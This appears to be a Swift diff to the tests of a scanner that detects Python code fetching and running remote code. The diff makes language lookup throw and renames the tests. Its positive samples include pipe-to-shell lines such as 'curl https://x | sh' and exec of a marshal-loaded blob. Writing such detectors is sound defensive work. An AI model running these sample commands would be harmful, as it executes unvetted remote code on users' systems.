@@ -2,8 +2,8 @@ import SourceCode
 import Testing
 import Unpacking
 
-private func findings(_ text: String, _ path: String) -> [Finding] {
-    let language = CodeReader.language(path) ?? .python
+private func findings(_ text: String, _ path: String) throws -> [Finding] {
+    let language = try #require(CodeReader.language(path))
     return Array(text.utf8).withUnsafeBytes {
         FetchAndRun.findings($0, language: language, facts: CodeReader.read($0, language: language), path: path)
     }
@@ -21,7 +21,9 @@ private func findings(_ text: String, _ path: String) -> [Finding] {
         ("os.system('curl https://x | sh')\n", "a.py"), ("!curl -s https://x | bash\n", "a.py"),
         ("blob = marshal.loads(data)\nexec(blob)\n", "a.py"),
     ])
-    func finds(sample: (String, String)) { #expect(!findings(sample.0, sample.1).isEmpty) }
+    func codeThatIsFetchedAndRunIsFound(sample: (String, String)) throws {
+        #expect(!(try findings(sample.0, sample.1).isEmpty))
+    }
 
     @Test(arguments: [
         ("model.eval()\nr = requests.get(url)\nprint(r.text)\n", "a.py"), ("# exec(requests.get(url).text)\n", "a.py"),
@@ -29,5 +31,7 @@ private func findings(_ text: String, _ path: String) -> [Finding] {
         ("print('Install it: curl https://x | sh')\n", "a.py"), ("cursor.exec(query)\nx = b64decode(s)\n", "a.py"),
         ("image = Image.open(io.BytesIO(base64.b64decode(s)))\n", "a.py"),
     ])
-    func leavesAlone(sample: (String, String)) { #expect(findings(sample.0, sample.1).isEmpty) }
+    func fetchingOrRunningAloneIsNot(sample: (String, String)) throws {
+        #expect(try findings(sample.0, sample.1).isEmpty)
+    }
 }
